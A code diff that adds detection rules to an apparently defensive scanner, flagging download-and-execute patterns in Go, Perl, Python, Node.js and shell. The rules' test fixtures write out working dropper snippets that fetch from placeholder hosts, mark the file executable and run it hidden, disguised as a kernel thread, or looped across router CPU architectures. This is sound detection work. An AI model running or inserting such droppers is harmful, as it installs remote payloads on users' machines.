@@ -16,6 +16,7 @@ import {
   js,
   near,
   php,
+  pl,
   ps,
   py,
   type RuleSet,
@@ -585,6 +586,144 @@ export const downloadRun: RuleSet = {
         cs('var client = new WebClient();\nclient.DownloadFile(url, path);'),
         at('install.html', '<p>AutoOpen and Shell</p>'),
       ],
+    },
+    {
+      id: id('go-stage'),
+      severity: 'high',
+      why: 'Fetches a file, marks it as a program and starts it through a shell that deletes it.',
+      when: near(
+        12,
+        is(['exec.command('], /exec\.Command\(\s*"(?:\/bin\/)?(?:ba)?sh",\s*"-c",\s*[\w.()]{1,60}\s*\+/, {
+          families: ['go'],
+        }),
+        is(['chmod('], /\.?Chmod\([^)\n]{0,80}0o?7\d\d\)/, { families: ['go'] }),
+        is(['http.get('], null, { families: ['go'] }),
+      ),
+      matches: [
+        go(
+          'response, err := http.Get("https://x.example.net/a")\nfile.ReadFrom(response.Body)\nfile.Chmod(0o700)\nexec.Command("/bin/sh", "-c", file.Name()+" & rm "+file.Name()).Start()',
+        ),
+      ],
+      misses: [go('response, err := http.Get(url)\nio.Copy(file, response.Body)\nos.Chmod(path, 0o755)')],
+    },
+    {
+      id: id('perl-stage'),
+      severity: 'high',
+      why: 'Fetches a file, marks it as a program and starts it with its output thrown away.',
+      when: near(
+        6,
+        is(['getstore(', 'mirror('], /(?:getstore|mirror)\(\s*["']https?:/, { families: ['pl'], after: 80 }),
+        is(['chmod 0', 'chmod('], /chmod[ (]\s*0?7\d\d/, { families: ['pl'] }),
+        is(['system(', 'exec(', 'system '], null, { families: ['pl'] }),
+      ),
+      matches: [
+        pl(
+          'if (getstore("http://192.0.2.7/u", $f) == 200) { chmod 0755, $f; system("$f >/dev/null 2>&1 &"); unlink $f }',
+        ),
+      ],
+      misses: [pl('getstore("https://cpan.example.org/a.tar.gz", $file);\nsystem("tar", "-xzf", $file);')],
+    },
+    {
+      id: id('python-stage'),
+      severity: 'high',
+      why: 'Writes what it fetched into a file, marks it as a program and starts it.',
+      when: near(
+        14,
+        is(
+          ['chmod('],
+          /chmod\([^,)\n]{1,60},\s*(?:0o?7\d\d|stat\.S_IRWXU|(?:os\.stat\([^)]{1,40}\)\.st_mode\s*\|\s*)?stat\.S_IX?EXEC)/,
+          { families: ['py'] },
+        ),
+        is(['.write('], /\.write\(\s*(?:urllib\.request\.)?(?:urlopen|requests\.get|get)\(/, {
+          families: ['py'],
+          after: 80,
+        }),
+        'exec',
+      ),
+      matches: [
+        py(
+          'with open(path, "wb") as handle:\n    handle.write(urlopen("https://x.example/assets/" + m).read())\nos.chmod(path, stat.S_IRWXU)\nos.spawnl(os.P_NOWAIT, path, "[kworker/u8:2]")',
+        ),
+      ],
+      misses: [
+        py('handle.write(urlopen(url).read())\nos.chmod(path, 0o644)'),
+        py('handle.write(requests.get(url).content)\nos.chmod(path, 0o755)\nprint("installed", path)'),
+      ],
+    },
+    {
+      id: id('node-stage'),
+      severity: 'high',
+      why: 'Fetches a program into a folder for leftovers and starts it apart from its parent, without a window or output.',
+      when: near(
+        20,
+        is(
+          ['createwritestream(', 'writefilesync(', 'writefile('],
+          /(?:createWriteStream|writeFile(?:Sync)?)\([^;\n]{0,160}mode:\s*0o?7\d\d/,
+          {
+            families: ['js'],
+          },
+        ),
+        is(['detached: true', 'detached:true', 'windowshide: true'], null, { families: ['js'] }),
+        is(['https.get(', 'http.get(', 'fetch(', 'axios.get('], null, { families: ['js'] }),
+      ),
+      matches: [
+        js(
+          "const out = fs.createWriteStream(bin, { mode: 0o755 });\nhttps.get('https://m.example/b/' + process.platform, (res) => res.pipe(out));\nspawn(bin, [], { detached: true, stdio: 'ignore', windowsHide: true }).unref();",
+        ),
+      ],
+      misses: [
+        js(
+          "https.get(url, (res) => res.pipe(fs.createWriteStream(bin, { mode: 0o755 })))\nspawnSync(bin, ['--version'])",
+        ),
+      ],
+    },
+    {
+      id: id('shell-every-architecture'),
+      severity: 'critical',
+      why: 'Tries the same program for every processor there is until one runs: what spreads over routers and cameras does so.',
+      when: near(
+        8,
+        is(['chmod +x *', 'chmod 777 *', 'chmod +x ', 'chmod 777 '], /chmod\s+(?:\+x|777)\s+(?:\*|\S{1,40})/, {
+          families: ['sh', 'make', 'docker'],
+        }),
+        is(
+          ['wget http://', 'curl -o http://', 'busybox wget'],
+          /(?:wget|curl(?:\s+-\w+)?)\s+http:\/\/\S{1,80}[$.](?:\w{0,4}\$\{?\w+|mips|arm[4567]?|x86|sh4|ppc|m68k)/,
+          {
+            after: 140,
+          },
+        ),
+        is(['mipsel', 'arm7', 'sh4', 'm68k', 'x86_64 mips', 'arm5'], null, { quoted: true }),
+      ),
+      matches: [
+        sh(
+          'for a in x86 mips mipsel arm5 arm7 sh4; do\n  wget http://203.0.113.2/x.$a; curl -O http://203.0.113.2/x.$a\n  cat x.$a > h; chmod +x *; ./h telnet.$a\ndone',
+        ),
+      ],
+      misses: [sh('for a in amd64 arm7; do\n  curl -sSfLO https://dl.example.org/tool-$a\n  chmod +x tool-$a\ndone')],
+    },
+    {
+      id: id('module-evaluated'),
+      severity: 'high',
+      why: 'A package that evaluates what it fetches when it is imported is not the package it is called after.',
+      when: near(
+        6,
+        is(['exec('], /(?:(?<=builtins["'\]]{0,3}\s?\.?\s?)|(?<![\w.]))exec\(\s*\w{1,30}\s*[,)]/, {
+          families: ['py'],
+        }),
+        is(
+          ['get(', 'urlopen('],
+          /(?:get|urlopen)\(\s*f?["']https?:\/\/[^"'\n]{4,160}["'][^\n]{0,120}?(?:\.text|\.read\(\))/,
+          {
+            families: ['py'],
+            after: 320,
+          },
+        ),
+      ),
+      matches: [
+        py('code = get("https://files.example.com/simple/x", timeout=4).text\n_sys.modules["builtins"].exec(code, {})'),
+      ],
+      misses: [py('text = get("https://api.example.com/v1", timeout=4).text\nprint(text)\nengine.exec(query, {})')],
     },
   ],
 }
